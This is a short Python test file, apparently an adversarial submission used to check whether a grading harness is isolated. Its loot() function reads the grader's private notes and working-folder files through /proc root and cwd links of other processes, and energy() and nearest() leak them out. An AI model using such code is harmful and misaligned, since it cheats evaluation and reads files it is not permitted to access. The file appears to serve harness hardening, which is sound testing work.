"""Reaches the grader's files through /proc: the root and the working folder of other processes.

fails: energy, nearest, private
passes: everything else
control: leaks
"""

import os

from accomplice import ROOT, Found, above, contents, tell
from solution import Critic, descend, estimate, loss, noise  # noqa: F401


def loot():
    pieces = []
    for process in (*above(), "self", "thread-self"):
        for link in ("root", "cwd"):
            for path in (f"{ROOT}/source/notes_for_staff.txt", "source/notes_for_staff.txt", "../notes_for_staff.txt"):
                pieces.append(contents(f"/proc/{process}/{link}/{path}"))
        try:
            here = os.listdir(f"/proc/{process}/cwd")
        except OSError:
            continue
        pieces += [contents(f"/proc/{process}/cwd/{name}") for name in here]
    return tell(*pieces)


def energy(x):
    raise Found(loot())


def nearest(x, centres):
    return loot()
